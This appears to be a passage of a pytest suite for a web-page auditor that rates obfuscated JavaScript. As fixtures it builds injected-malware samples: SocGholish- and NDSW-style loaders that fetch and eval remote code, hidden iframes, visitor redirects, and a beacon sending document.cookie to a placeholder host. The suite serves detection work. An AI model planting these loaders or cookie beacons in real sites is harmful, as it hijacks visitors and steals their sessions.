    ("an icon font as base64 in a script", page(foot=ICON_FONT), None),
    ("a bot check's VM and its base64 bytecode", page(foot=BOT_CHECK_VM), None),
    ("a site builder's context with escaped slashes", page(foot=SITE_CONTEXT), None),
]


@pytest.mark.parametrize(("what", "html", "most"), GENERATED, ids=[g[0] for g in GENERATED])
def test_a_string_table_naming_a_url_loads_nothing(what: str, html: str, most: Severity | None,
                                                   audit_html: AuditHtml) -> None:
    """Generated or obfuscated code that names a URL it never loads: a javascript-obfuscator
    table holding `location` (to read the host name) and the licence server's URL read
    "decoded, it sends the visitor to" that URL, high. Machine obfuscation with no load
    is `medium`, naming the URL; the walk requests none of its table's URLs."""
    report = audit_html(html, url=URL)
    found = _obfuscated(report)
    assert [s for s, _ in found] == ([most] if most else []), found
    for _, message in found:
        assert "decoded, it loads" not in message and "sends the visitor" not in message
    assert not [r.url for r in report.resources if r.via == "inline-decoded"]


_SCRIPT_WORDS = ["https://cdn.statsjqueryapi.example/lib/jq.min.js", "createElement", "script",
                 "src", "head", "appendChild", "async", "location", "hostname"]
_SCRIPT_LOADER = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(0)}"
    f"+'?d='+window[{_at(7)}][{_at(8)}];_0x2[{_at(6)}]=!![];document[{_at(4)}][{_at(5)}]"
    "(_0x2);}());")
_FRAME_WORDS = ["https://promo.clickhub-tds.example/frame/7731", "createElement", "iframe", "src",
                "style", "display:none", "body", "appendChild"]
_FRAME_LOADER = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(0)};"
    f"_0x2[{_at(4)}]={_at(5)};document[{_at(6)}][{_at(7)}](_0x2);}}());")
_REDIRECT_WORDS = ["https://go.trafficdesk.example/r/8812", "location", "href", "referrer",
                   "cookie", "indexOf", "wp-settings"]
_REDIRECT = (
    f"(function(){{var _0x1=_0x5e6f;if(document[{_at(4)}][{_at(5)}]({_at(6)})==-0x1&&document"
    f"[{_at(3)}]){{window[{_at(1)}][{_at(2)}]={_at(0)};}}}}());")
_REPLACE_WORDS = ["https://win-prize.reward-desk.example/?c=77", "location", "replace",
                  "referrer", "indexOf", "google"]
_REPLACE = (
    f"(function(){{var _0x1=_0x5e6f;if(document[{_at(3)}][{_at(4)}]({_at(5)})>-0x1)window"
    f"[{_at(1)}][{_at(2)}]({_at(0)});}}());")
# NDSW/"ndsj": an XMLHttpRequest to a hacked site's PHP file whose answer is run
_NDSW_WORDS = ["https://stats.wp-cdnupdate.example/wp-content/plugins/ndsw.php?id=",
               "XMLHttpRequest", "open", "GET", "send", "onreadystatechange", "readyState",
               "status", "responseText", "eval", "random"]
_NDSW = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=new window[{_at(1)}]();_0x2[{_at(5)}]=function(){{if("
    f"_0x2[{_at(6)}]==0x4&&_0x2[{_at(7)}]==0xc8)window[{_at(9)}](_0x2[{_at(8)}]);}};_0x2"
    f"[{_at(2)}]({_at(3)},{_at(0)}+Math[{_at(10)}]());_0x2[{_at(4)}]();}}());")
_WRITE_WORDS = ['<script src="https://cdn.jqueryui-lib.example/ui.js"></script>', "write",
                "a", "b", "c"]
_WRITE = f"(function(){{var _0x1=_0x5e6f;document[{_at(1)}]({_at(0)});}}());"
# the same tag split over the table, joined as it is written
_PIECES_WORDS = ["<scr", 'ipt src="https://cdn.jqueryui-lib.example/ui.js"></scr', "ipt>", "write"]
_PIECES = (f"(function(){{var _0x1=_0x5e6f;document[{_at(3)}]({_at(0)}+{_at(1)}+{_at(2)});}}"
           "());")



def indexed(words: list[str], body: str) -> str:
    """javascript-obfuscator's older shape, as Blogger templates ship it: an array of
    hex-escaped strings read by index (`_0xf3df[30]`), no accessor function."""
    table = ",".join('"' + "".join(f"\\x{ord(c):02X}" for c in w) + '"' for w in words)
    return f"var _0x7a1c=[{table}];" + body


# a Blogger template's credit lock: when the page lacks the credit link, the visitor is
# sent to the template's site; else the link is forced dofollow
_CREDIT_WORDS = ["onload", "creditline", "getElementById", "href", "location",
                 "http://www.templateforge.example/", "setAttribute", "rel", "dofollow"]
_CREDIT_LOCK = (
    "window[_0x7a1c[0]]=function(){var _0x3=document[_0x7a1c[2]](_0x7a1c[1]);if(_0x3==null)"
    "{window[_0x7a1c[4]][_0x7a1c[3]]=_0x7a1c[5]};_0x3[_0x7a1c[6]](_0x7a1c[3],_0x7a1c[5]);"
    "_0x3[_0x7a1c[6]](_0x7a1c[7],_0x7a1c[8]);}")
# the same template's credit check that only logs a missing link (reads the host name)
_CREDIT_LOG = (
    "window[_0x7a1c[0]]=function(){var _0x3=document[_0x7a1c[2]](_0x7a1c[1]);if(_0x3==null)"
    "{console.log(window[_0x7a1c[4]].hostname,_0x7a1c[5])};_0x3[_0x7a1c[6]](_0x7a1c[7],"
    "_0x7a1c[8]);}")


def test_an_indexed_table_that_only_reads_the_location_sends_nobody(
        audit_html: AuditHtml) -> None:
    """The older indexed shape: a template logging its credit's URL and reading the host
    name is `medium`, naming the URL; the same table assigning `location.href` is the
    credit lock a reviewer signed `high` on a real Blogger page (TABLE_TWINS)."""
    found = _obfuscated(audit_html(page(foot="<script>" + indexed(
        _CREDIT_WORDS, _CREDIT_LOG) + "</script>"), url=URL))
    assert [s for s, _ in found] == [M], found
    assert "sends the visitor" not in found[0][1]


TABLE_TWINS: list[tuple[str, str, str, str]] = [
    ("a template's credit lock assigning location.href through an indexed table",
     indexed(_CREDIT_WORDS, _CREDIT_LOCK), "sends the visitor to", _CREDIT_WORDS[5]),
    # (what, script, the verb, the URL)
    ("a table loader creating a script", rotated(_SCRIPT_WORDS, _SCRIPT_LOADER), "loads",
     _SCRIPT_WORDS[0]),
    ("a table loader creating a hidden frame of an address with no extension",
     rotated(_FRAME_WORDS, _FRAME_LOADER), "loads", _FRAME_WORDS[0]),
    ("a table redirect assigning location.href", rotated(_REDIRECT_WORDS, _REDIRECT),
     "sends the visitor to", _REDIRECT_WORDS[0]),
    ("a table redirect calling location.replace", rotated(_REPLACE_WORDS, _REPLACE),
     "sends the visitor to", _REPLACE_WORDS[0]),
    ("NDSW's XMLHttpRequest whose answer is run by eval", rotated(_NDSW_WORDS, _NDSW), "loads",
     _NDSW_WORDS[0]),
    ("a table writing a script tag", rotated(_WRITE_WORDS, _WRITE), "loads",
     "https://cdn.jqueryui-lib.example/ui.js"),
    ("a table writing a script tag split in pieces", rotated(_PIECES_WORDS, _PIECES), "loads",
     "https://cdn.jqueryui-lib.example/ui.js"),
]


# javascript-obfuscator writes its table plain by default: the same loaders so
TABLE_TWINS += [
    (f"{what}, its table plain", rotated(words, body, escaped=False), verb, words[0])
    for what, words, body, verb in [
        ("a table loader creating a script", _SCRIPT_WORDS, _SCRIPT_LOADER, "loads"),
        ("a table loader creating a hidden frame", _FRAME_WORDS, _FRAME_LOADER, "loads"),
        ("a table redirect assigning location.href", _REDIRECT_WORDS, _REDIRECT,
         "sends the visitor to"),
        ("NDSW's XMLHttpRequest run by eval", _NDSW_WORDS, _NDSW, "loads")]]


@pytest.mark.parametrize(("what", "script", "verb", "url"), TABLE_TWINS,
                         ids=[t[0] for t in TABLE_TWINS])
def test_a_string_table_that_loads_or_redirects_stays_high(
        what: str, script: str, verb: str, url: str, audit_html: AuditHtml) -> None:
    """The injected twins of GENERATED: the same rotated table, whose code creates a script
    or frame, writes a script tag, runs a download or assigns the location. High, saying
    what it does with which URL (the frame's and NDSW's addresses, with no extension, were
    `medium` and named nothing; so was every loader whose table is plain, and a plain
    table's script URL was its own "loader beside it")."""
    found = _obfuscated(audit_html(page(foot=f"<script>{script}</script>"), url=URL))
    assert [s for s, _ in found] == [H], found
    assert f"decoded, it {verb} {url}" in found[0][1]


# javascript-obfuscator's checksum strings: numbers a `parseInt` reads, letters after
_CHECKSUM_STRINGS = ["2938114qWmXkz", "5120468LpTzvD", "91233hYqnsE"]


def checksummed(words: list[str], body: str, turn: int = 5) -> str:
    """javascript-obfuscator's current shape as it really runs: the table written `turn`
    places behind, rotated by the IIFE until `parseInt(a(i))/1 + -parseInt(a(j))/2 +
    parseInt(a(k))/3` equals the constant, and read through an accessor with an offset
    (`_at(i)` is `words[i]` once rotated)."""
    final = words + _CHECKSUM_STRINGS
    first = len(words)
    value = (int(_CHECKSUM_STRINGS[0][:7]) / 1 + -int(_CHECKSUM_STRINGS[1][:7]) / 2
             + int(_CHECKSUM_STRINGS[2][:5]) / 3)
    assert value == int(value)
    written = final[-turn:] + final[:-turn]
    table = ",".join(json.dumps(w) for w in written)
    return (
        "(function(_0x1a2b3c,_0x4d5e6f){var _0x2b3c4d=_0x5e6f,_0x3c4d5e=_0x1a2b3c();while(!![])"
        f"{{try{{var _0x4d5e6f7=parseInt(_0x2b3c4d({hex(0x1a0 + first)}))/0x1+-parseInt("
        f"_0x2b3c4d({hex(0x1a1 + first)}))/0x2+parseInt(_0x2b3c4d({hex(0x1a2 + first)}))/0x3;if("
        "_0x4d5e6f7===_0x4d5e6f)break;else _0x3c4d5e['push'](_0x3c4d5e['shift']());}catch(_0x5e"
        f"6f70){{_0x3c4d5e['push'](_0x3c4d5e['shift']());}}}}}}(_0x1b2c,{hex(int(value))}));"
        f"function _0x1b2c(){{var _0x6f7081=[{table}];_0x1b2c=function(){{return _0x6f7081;}};"
        "return _0x1b2c();}function _0x5e6f(_0x708192,_0x8192a3){var _0x92a3b4=_0x1b2c();return "
        "_0x5e6f=function(_0xa3b4c5,_0xb4c5d6){_0xa3b4c5=_0xa3b4c5-0x1a0;var _0xc5d6e7=_0x92a3b4"
        "[_0xa3b4c5];return _0xc5d6e7;},_0x5e6f(_0x708192,_0x8192a3);}" + body)


# a bot check that reads its own tag (`currentScript`, else the first script) for its site
# key, fingerprints a canvas and posts to its collector: `script` and `src` are in its
# table to read a tag, and `createElement` is given `canvas`
_SELF_READING_WORDS = [
    "https://verify.botshield.example/v3/check", "currentScript", "getElementsByTagName",
    "script", "src", "split", "k=", "createElement", "canvas", "getContext", "webgl",
    "webdriver", "POST", "stringify", "location", "href"]
_SELF_READING = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]||document[{_at(2)}]({_at(3)})[0x0],"
    f"_0x3=_0x2[{_at(4)}][{_at(5)}]({_at(6)})[0x1],_0x4=document[{_at(7)}]({_at(8)})[{_at(9)}]("
    f"{_at(10)});fetch({_at(0)},{{method:{_at(12)},body:JSON[{_at(13)}]({{k:_0x3,g:!!_0x4,w:!!"
    f"navigator[{_at(11)}],u:window[{_at(14)}][{_at(15)}]}})}});}}());")
# a licence check reading its key from its own tag's address, a notice div when invalid
_SELF_LICENCE_WORDS = [
    "https://licence.themeforge.example/v1/verify.js", "getElementsByTagName", "script",
    "length", "src", "indexOf", "themeforge", "then", "json", "ok", "createElement", "div",
    "textContent", "Licence not active", "body", "appendChild"]
_SELF_LICENCE = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)}),_0x3=_0x2[_0x2[{_at(3)}]"
    f"-0x1][{_at(4)}];if(_0x3[{_at(5)}]({_at(6)})<0x0)return;fetch({_at(0)}+'?s='+_0x3)[{_at(7)}]"
    f"(function(_0x4){{return _0x4[{_at(8)}]();}})[{_at(7)}](function(_0x5){{if(!_0x5[{_at(9)}])"
    f"{{var _0x6=document[{_at(10)}]({_at(11)});_0x6[{_at(12)}]={_at(13)};document[{_at(14)}]"
    f"[{_at(15)}](_0x6);}}}});}}());")
# SocGholish's loader as the obfuscator writes it: the tag it creates named through the table
_SOCGHOLISH_WORDS = [
    "https://content.harbourlight-insure.example/s_code.js?cid=241&v=73a", "createElement",
    "script", "src", "async", "getElementsByTagName", "head", "appendChild", "currentScript"]
_SOCGHOLISH_TABLE = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(0)};"
    f"_0x2[{_at(4)}]=!![];(document[{_at(8)}]||document[{_at(5)}]({_at(6)})[0x0])[{_at(7)}]("
    "_0x2);}());")
# the same, the tag's name passed through a variable: what it creates is not read
_VARIABLE_TAG = _SOCGHOLISH_TABLE.replace(
    f"_0x2=document[{_at(1)}]({_at(2)})", f"_0x9={_at(2)},_0x2=document[{_at(1)}](_0x9)")


@pytest.mark.parametrize(("what", "script", "most"), [
    ("a bot check reading its own tag", _SELF_READING, M),
    ("a licence check reading its own tag", _SELF_LICENCE, M),
    ("SocGholish's loader creating a script", _SOCGHOLISH_TABLE, H),
    ("a loader creating a tag named through a variable", _VARIABLE_TAG, H),
], ids=lambda v: v if isinstance(v, str) and len(v) < 60 else "")
def test_a_resolved_table_creates_what_create_element_is_given(
        what: str, script: str, most: Severity, audit_html: AuditHtml) -> None:
    """A rotated table read as it runs: `script` and `src` in a table whose code only reads
    its own tag (`document.currentScript`, `getElementsByTagName('script')[0].src`) and
    creates a canvas or a div load nothing (`high`, "loads" its collector, before); the
    loader whose `createElement` gets `script` stays `high`, and so does one whose tag's
    name reaches `createElement` through a variable."""
    words = {_SELF_READING: _SELF_READING_WORDS, _SELF_LICENCE: _SELF_LICENCE_WORDS}.get(
        script, _SOCGHOLISH_WORDS)
    found = _obfuscated(audit_html(page(foot=f"<script>{checksummed(words, script)}</script>"),
                                   url=URL))
    assert [s for s, _ in found] == [most], found
    assert ("decoded, it loads " + words[0] in found[0][1]) == (most is H), found


def test_the_rotation_is_read_from_the_checksum() -> None:
    """The accessor's calls answer the strings the checksum's rotation puts at their index,
    whatever the turn; a checksum no rotation meets leaves the table unread."""
    for turn in (1, 5, 17):
        plain = resolved(checksummed(_SOCGHOLISH_WORDS, _SOCGHOLISH_TABLE, turn))
        assert plain is not None
        assert "document['createElement']('script')" in plain
        assert f"_0x2['src']='{_SOCGHOLISH_WORDS[0]}'" in plain
    # the IIFE called outside its parentheses, as a formatter (Prettier) writes it
    formatted = checksummed(_SOCGHOLISH_WORDS, _SOCGHOLISH_TABLE).replace(
        "}}}(_0x1b2c,", "}}})(_0x1b2c,").replace("));function _0x1b2c", ");function _0x1b2c")
    assert "document['createElement']('script')" in (resolved(formatted) or "")
    assert resolved(rotated(_SOCGHOLISH_WORDS, _SOCGHOLISH_TABLE, escaped=False)) is None


@pytest.mark.parametrize("nesting", ["(" * 1500 + "{}" + ")" * 1500, "-" * 3000 + "{}"],
                         ids=["parentheses", "unary minus"])
def test_a_hostile_checksum_is_left_unread(nesting: str) -> None:
    """A checksum nested past what any obfuscator writes is not read (no recursion past
    Python's limit on a hostile page): the table keeps its words' reading."""
    term = f"parseInt(_0x2b3c4d({hex(0x1a0 + len(_SOCGHOLISH_WORDS))}))/0x1"
    code = checksummed(_SOCGHOLISH_WORDS, _SOCGHOLISH_TABLE)
    assert term in code
    assert resolved(code.replace(term, nesting.format(term))) is None


@pytest.mark.parametrize(("code", "words", "acts"), [
    ("d[a(1)](a(2))[a(3)]=a(0)", ["createElement", "script", "src"], {"script"}),
    ("d[a(1)](a(2))[a(3)]=a(0)", ["createElement", "iframe", "src"], {"frame"}),
    ("d[a(1)](a(2))[a(3)]=a(0)", ["createElement", "div", "innerHTML"], set()),
    ("d[a(1)](a(0))", ['<iframe src="//t.example/f" width=0>', "write"], {"frame"}),
    ("new window[a(1)]();x[a(2)]=function(){window[a(3)](x.responseText)}",
     ["XMLHttpRequest", "onload", "eval"], {"fetch-run"}),
    ("fetch(a(0)).then(r=>r.json())", ["https://l.example/verify"], set()),
    ("window[a(1)][a(2)]=a(0)", ["location", "href"], {"navigate"}),
    ("window[t[4]][t[3]]=t[5]", ["location", "href"], {"navigate"}),
    ("window[a(1)][a(2)](a(0))", ["location", "replace"], {"navigate"}),
    ("location[a(2)](a(0))", ["location", "assign"], {"navigate"}),
    ("import(a(0)).then(m=>m.run())", ["https://x.example/m"], {"script"}),
    ("f({d:window[a(1)][a(2)]})", ["location", "hostname"], set()),
    ("window[a(1)][a(2)]()", ["location", "reload"], set()),
    ("d=document[a(3)](a(4));x=y[a(2)](/w/,'')", ["location", "replace", "createElement"],
     set()),
    ("window[a(3)][a(4)](a(5))", ["location", "hostname", "console", "warn"], set()),
    # a bot check or analytics tag: fetch beside `Function.prototype.toString` (a native-code
    # check), '[object Function]' or the obfuscator's own global getter runs nothing fetched
    ("Function[a(6)][a(5)].call(fetch);window[a(4)](a(0),{body:b})",
     ["fetch", "toString", "prototype"], set()),
    ("if(!Function.prototype.bind){};var x=new XMLHttpRequest();x.open(a(1),a(0))",
     ["GET"], set()),
    ("jQuery[a(1)]({url:a(0)});o.toString.call(f)===a(5)", ["ajax", "[object Function]"], set()),
    ("var g=Function(a(7)+a(8)+');')();fetch(a(0),{method:'POST'})",
     ["return (function() ", '{}.constructor("return this")( )'], set()),
    ("fetch(a(0)).then(r=>r.text()).then(t=>Function(t)())", [], {"fetch-run"}),
    ("var g=Function(a(7)+a(8)+');')();fetch(a(0)).then(r=>r.text()).then(t=>Function(t)())",
     ["return (function() ", '{}.constructor("return this")( )'], {"fetch-run"}),
    # another object's `location`, a namespace set two names down, a hash: no navigation
    ("var e={};e.location=window[a(1)][a(2)];navigator[a(3)](a(0),e)",
     ["location", "href", "sendBeacon"], set()),
    ("window[a(3)]=window[a(3)]||{};window[a(3)][a(4)]=[];x(window[a(1)][a(2)])",
     ["location", "href", "qm", "q"], set()),
    ("b.onclick=function(){location[a(2)]=a(3)}", ["location", "hash", "#open"], set()),
    ("location[a(2)]=a(0)", ["location", "href"], {"navigate"}),
    ("window.location=a(0)", [], {"navigate"}),
    ("(function(w){w.location.href=a(0)})(window)", [], {"navigate"}),
    # a chat widget dropping messages holding '<script', its poll's query '&src=': no tag
    ("m[a(2)](a(1))>-1;window[a(5)](a(0)+a(3)+a(4))", ["<script", "indexOf", "&src=", "w"],
     set()),
    ("document[a(3)](a(0)+a(1))", ["<iframe width=0 height=0", " src=//t.example/f>", "write"],
     {"frame"}),
])
def test_table_acts_read_what_the_code_does(code: str, words: list[str], acts: set[str]) -> None:
    """What code does with its table, read from its words and shape: the act a table's
    URL needs before it counts as loaded."""
    assert table_acts(code, words) == acts


# an anti-adblock bait: creates AdSense's script and shows its notice if it fails to load
_BAIT_WORDS = ["https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js", "createElement",
               "script", "src", "onerror", "head", "appendChild", "adblock-notice",
               "getElementById", "style", "display", "block"]
_BAIT = (
    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(0)};"
    f"_0x2[{_at(4)}]=function(){{document[{_at(8)}]({_at(7)})[{_at(9)}][{_at(10)}]={_at(11)};}};"
    f"document[{_at(5)}][{_at(6)}](_0x2);}}());")


@pytest.mark.parametrize(("escaped", "most"), [(False, M), (True, H)])
def test_a_plain_tables_vendor_script_is_checked_not_condemned(
        escaped: bool, most: Severity, audit_html: AuditHtml) -> None:
    """An anti-adblock bait whose plain table names AdSense's script in plain sight:
    `medium`, "check that the site chose that vendor" (a plain table's URLs are read now,
    and a fresh host's script in one is `high`: TABLE_TWINS). The same address hidden in
    escapes is a host the page names nowhere else: `high`, as before."""
    html = page(foot="<script>" + rotated(_BAIT_WORDS, _BAIT, escaped=escaped) + "</script>")
    found = _obfuscated(audit_html(html, url=URL))
    assert [s for s, _ in found] == [most], found
    if most is M:
        assert "check that the site chose that vendor" in found[0][1]


# A WordPress theme's own helper library, machine-obfuscated as some premium themes ship it
# inline in the head (after JNews' `jnews` helper): its string table holds the theme's
# namespace and the names it works with; it creates script tags for the assets the theme's
# own configuration lists, and names no URL.
THEME_WORDS = ["harbourlineHelper", "harbourlineoption", "assets", "createElement", "script",
               "src", "defer", "head", "appendChild", "classList", "forEach", "offsetHeight"]
THEME_LIBRARY = ("(function(){var w=window,o=w[_0x4f5a('0x1')]||{};(o[_0x4f5a('0x2')]||[])["
                 "_0x4f5a('0xa')](function(u){var s=document[_0x4f5a('0x3')](_0x4f5a('0x4'));"
                 "s[_0x4f5a('0x5')]=u;s[_0x4f5a('0x6')]=!0;document[_0x4f5a('0x7')]["
                 "_0x4f5a('0x8')](s)});w[_0x4f5a('0x0')]={h:function(e){return e["
                 "_0x4f5a('0xb')]}}})();")
THEME_BUILD = ("<link rel='stylesheet' href='https://harbour.example/wp-content/themes/"
               "harbourline/style.css?ver=2.1'>")
THEME_MARKUP = "<div class='harbourline_header_top_ads harbourline-block'></div>"


def _theme_library_page(head: str = THEME_BUILD, markup: str = THEME_MARKUP,
                        words: list[str] = THEME_WORDS, library: str = THEME_LIBRARY) -> str:
    return page(head=head + f"<script>{obfuscated(words, library)}</script>", body=markup)


@pytest.mark.parametrize(("html", "expected"), [
    # the theme's build serves harbourline's files, its markup uses the namespace, the code
    # names it and reaches nothing itself: the theme's own library (it was medium)
    (_theme_library_page(), []),
    # the same code with no theme build on the page, or the build of another theme, or the
    # namespace nowhere in the markup: nothing vouches for it
    (_theme_library_page(head=""), [M]),
    (_theme_library_page(head=THEME_BUILD.replace("harbourline", "quaysidepro")), [M]),
    (_theme_library_page(markup="<div class='entry-content'></div>"), [M]),
    # the theme's files served from another site's host are no build of the page's own
    (_theme_library_page(head=THEME_BUILD.replace("harbour.example", "cdn.kit-host.example")),
     [M]),
    # an injector borrowing the namespace: a loader of another site's script stays high,
    # a redirect stays medium
    (_theme_library_page(words=[*THEME_WORDS[:-1], "https://cdn.fresh-kit.example/x.js"],
                         library=THEME_LIBRARY.replace("(o[_0x4f5a('0x2')]||[])",
                                                       "[_0x4f5a('0xb')]")), [H]),
    (_theme_library_page(words=[*THEME_WORDS, "location", "href"],
                         library=THEME_LIBRARY + "if(!w.x)w[_0x4f5a('0xc')][_0x4f5a('0xd')]="
                         "w.harbourlineoption.u;"), [M]),
    # the same code pasted into the article's body: a post's content is anyone's paste
    (page(head=THEME_BUILD, body=THEME_MARKUP + f"<script>{obfuscated(THEME_WORDS, THEME_LIBRARY)}"
          "</script>"), [M]),
], ids=["theme library", "no build", "another theme", "no namespace in markup",
        "build off-site", "injected loader", "injected redirect", "in the article"])
def test_a_themes_own_obfuscated_library(audit_html: AuditHtml, html: str,
                                         expected: list[Severity]) -> None:
    """Machine-obfuscated code that reaches nothing itself and names the namespace of a
    theme the page's own build serves and its markup uses is that theme's library, no
    finding; without that vouching it stays medium, and what an injector's code reaches
    (another site's script, a redirect) keeps it a finding whatever namespace it borrows."""
    report = audit_html(html, url=URL.replace("news.example", "harbour.example"))
    assert [f.severity for f in report.findings if f.kind == "obfuscated-script"] == expected


def test_build_namespaces_scale_linearly(audit_html: AuditHtml) -> None:
    """Many themes' assets, many namespaced classes and a long obfuscated library: each
    class token and each word of the code is a few lookups, not a pass over every slug."""
    def seconds(n: int) -> float:
        build = "".join(f"<img src='/wp-content/themes/theme{i}x/a.png' alt=''>"
                        for i in range(n))
        markup = "".join(f"<div class='theme{i}x_box_{'_' * 80}'></div>" for i in range(n))
        words = [f"word{i}Helper" for i in range(n)] + THEME_WORDS[2:]
        html = page(head=f"<script>{obfuscated(words, THEME_LIBRARY)}</script>",
                    body=build + markup)
        start = time.perf_counter()
        audit_html(html, url="https://harbour.example/2024/story")
        return time.perf_counter() - start

    assert_linear(seconds, 500, "build namespaces")


def _at(i: int) -> str:
    return f"_0x4f5a('0x{i:x}')"


_N = len(THEME_WORDS)


@pytest.mark.parametrize(("words", "library"), [
    # a beacon to an address put together from pieces, with the visitor's cookies
    ([*THEME_WORDS, "sendBeacon", "navigator", "https:", "beacon.quay-kit.example/c"],
     THEME_LIBRARY + f"w[{_at(_N + 1)}][{_at(_N)}]({_at(_N + 2)}+'/'+'/'+{_at(_N + 3)},"
     "document.cookie);"),
    # a socket whose messages the code keeps
    ([*THEME_WORDS, "WebSocket", "wss:", "ws.quay-kit.example"],
     THEME_LIBRARY + f"var k=new w[{_at(_N)}]({_at(_N + 1)}+'/'+'/'+{_at(_N + 2)});"
     f"k.onmessage=function(e){{w.q=e.data}};"),
    # a second layer run through Function, or through eval of a name set before
    ([*THEME_WORDS, "Function", "atob", "YWxlcnQoMSk="],
     THEME_LIBRARY + f"w[{_at(_N)}](w[{_at(_N + 1)}]({_at(_N + 2)}))();"),
    ([*THEME_WORDS, "eval", "atob", "YWxlcnQoMSk="],
     THEME_LIBRARY + f"var q=w[{_at(_N + 1)}]({_at(_N + 2)});w[{_at(_N)}](q);"),
    # a module imported from an address of pieces
    ([*THEME_WORDS, "https:", "quay-kit.example/m.js"],
     THEME_LIBRARY + f"import({_at(_N)}+'/'+'/'+{_at(_N + 1)});"),
    # the location written through an alias
    ([*THEME_WORDS, "location", "https:", "quay-kit.example/land"],
     THEME_LIBRARY + f"var L=w[{_at(_N)}];L.href={_at(_N + 1)}+'/'+'/'+{_at(_N + 2)};"),
    # the theme's own script loader handed another site's address of pieces
    ([*THEME_WORDS, "https:", "quay-kit.example/x.js"],
     THEME_LIBRARY.replace("(o[_0x4f5a('0x2')]||[])", f"[{_at(_N)}+'/'+'/'+{_at(_N + 1)}]")),
    # `eval` and `atob` named by joining table pieces at run time (`w['ev'+'al']`)
    ([*THEME_WORDS, "ev", "al", "YWxlcnQoMSk=", "at", "ob"],
     THEME_LIBRARY + f"w[{_at(_N)}+{_at(_N + 1)}](w[{_at(_N + 3)}+{_at(_N + 4)}]({_at(_N + 2)}));"),
], ids=["beacon", "websocket", "Function of atob", "eval of a name", "import()",
        "location alias", "script address of pieces", "a name joined from pieces"])
def test_a_libraries_namespace_vouches_for_no_code_that_reaches_out(
        audit_html: AuditHtml, words: list[str], library: str) -> None:
    """A plugin's folder is where most WordPress malware lives (fake plugins), so the build's
    namespace vouches only for code that reaches nothing: a beacon, a socket, a second
    layer run by `Function` or `eval`, `import()`, a location alias or an address built of
    pieces keep the finding the same code has without the build."""
    url = URL.replace("news.example", "harbour.example")
    bare = audit_html(_theme_library_page(head="", words=words, library=library), url=url)
    built = audit_html(_theme_library_page(words=words, library=library), url=url)
    expected = [f.severity for f in bare.findings if f.kind == "obfuscated-script"]
    assert expected, bare.findings
    assert [f.severity for f in built.findings if f.kind == "obfuscated-script"] == expected


def test_a_themes_library_loading_its_next_posts_is_still_its_own(audit_html: AuditHtml
                                                                  ) -> None:
    """A theme's library requests its next posts and hands the answer to the caller's
    callback (JNews' own `ajax` helper: `XMLHttpRequest`, then `o.call(void 0, c.response)`;
    `innerHTML` set elsewhere): with no address in its code, as written or in pieces, the
    request goes where the page's own code points it, and the build vouches for it; the same
    code asking another site's address of pieces keeps its finding."""
    words = [*THEME_WORDS, "XMLHttpRequest", "open", "GET", "onload", "innerHTML",
             "response", "call"]
    more = (f"w[{_at(_N + 7)}]=function(u,cb,el){{var x=new w[{_at(_N)}]();x[{_at(_N + 1)}]("
            f"{_at(_N + 2)},u);x[{_at(_N + 3)}]=function(){{cb[{_at(_N + 6)}](void 0,x["
            f"{_at(_N + 5)}])}};x.send();el[{_at(_N + 4)}]=''}};")
    url = URL.replace("news.example", "harbour.example")
    own = audit_html(_theme_library_page(words=[*words, "loadMore"], library=THEME_LIBRARY + more),
                     url=url)
    assert not [f for f in own.findings if f.kind == "obfuscated-script"], own.findings
    far = more.replace(",u);", f",{_at(_N + 8)}+'/'+'/'+{_at(_N + 9)});")
    page_far = _theme_library_page(words=[*words, "loadMore", "https:", "quay-kit.example/p"],
                                   library=THEME_LIBRARY + far)
    bare = _theme_library_page(head="", words=[*words, "loadMore", "https:",
                                               "quay-kit.example/p"], library=THEME_LIBRARY + far)
    expected = [f.severity for f in audit_html(bare, url=url).findings
                if f.kind == "obfuscated-script"]
    assert expected
    assert [f.severity for f in audit_html(page_far, url=url).findings
            if f.kind == "obfuscated-script"] == expected


# a plugin-folder injector's tail: reads its address where the page's markup never shows
# it (a cookie its server set), requests it and sets the answer as the page's markup
_ANSWER_WORDS = [*THEME_WORDS, "cookie", "fetch", "then", "text", "innerHTML", "querySelector",
                 "split", "XMLHttpRequest", "open", "GET", "onload", "responseText",
                 "insertAdjacentHTML", "beforeend"]
_COOKIE = (f"var u=document[{_at(_N)}][{_at(_N + 6)}]('pl=')[1],b=document[{_at(_N + 5)}]"
           "('.harbourline-block');")
_FETCHED = f"w[{_at(_N + 1)}](u)[{_at(_N + 2)}](function(r){{return r[{_at(_N + 3)}]()}})"


@pytest.mark.parametrize(("tail", "vouched"), [
    # the answer of a fetch set as markup, by a callback or by an arrow
    (_COOKIE + _FETCHED + f"[{_at(_N + 2)}](function(t){{b[{_at(_N + 4)}]=t}});", False),
    (_COOKIE + _FETCHED + f"[{_at(_N + 2)}](t=>b[{_at(_N + 12)}]({_at(_N + 13)},t));", False),
    # an XMLHttpRequest's answer set as markup where it loads
    (_COOKIE + f"var x=new w[{_at(_N + 7)}]();x[{_at(_N + 8)}]({_at(_N + 9)},u);x["
     f"{_at(_N + 10)}]=function(){{b[{_at(_N + 4)}]=x[{_at(_N + 11)}]}};x.send();", False),
    # the same request whose answer is read as data (the theme's options), and markup set
    # from the library's own strings: what a theme's library does
    (_COOKIE + _FETCHED + f"[{_at(_N + 2)}](function(t){{w[{_at(0)}].n=t}});b[{_at(_N + 4)}]='';",
     True),
], ids=["fetch then markup", "arrow, insertAdjacentHTML", "XHR onload", "answer read as data"])
def test_a_library_setting_a_requests_answer_as_markup_is_not_vouched_for(
        audit_html: AuditHtml, tail: str, vouched: bool) -> None:
    """Where the address comes from (a server-set cookie, a configuration) the page does not
    show, so the build vouches only for a request whose answer the code reads as data: one
    whose answer it sets as markup itself (`innerHTML`, `insertAdjacentHTML`, `.html()`,
    `write`) is an injector's fetch-and-show, and keeps the finding the code has without
    the build (revD34's cookie-address reproducer was vouched for)."""
    url = URL.replace("news.example", "harbour.example")
    library = THEME_LIBRARY + tail
